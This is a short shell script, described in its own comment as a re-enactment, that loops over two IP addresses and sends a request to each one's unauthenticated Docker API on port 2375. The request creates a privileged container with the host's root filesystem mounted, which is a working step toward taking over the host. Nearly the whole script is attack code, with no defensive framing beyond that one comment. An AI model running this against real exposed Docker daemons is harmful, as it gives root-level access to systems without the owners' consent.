#!/bin/sh
# re-enactment: asks a Docker API for a privileged container with the host root mounted
for host in 192.0.2.10 192.0.2.11; do
  curl -s -X POST -H "Content-Type: application/json" \
    -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' \
    http://$host:2375/containers/create
done
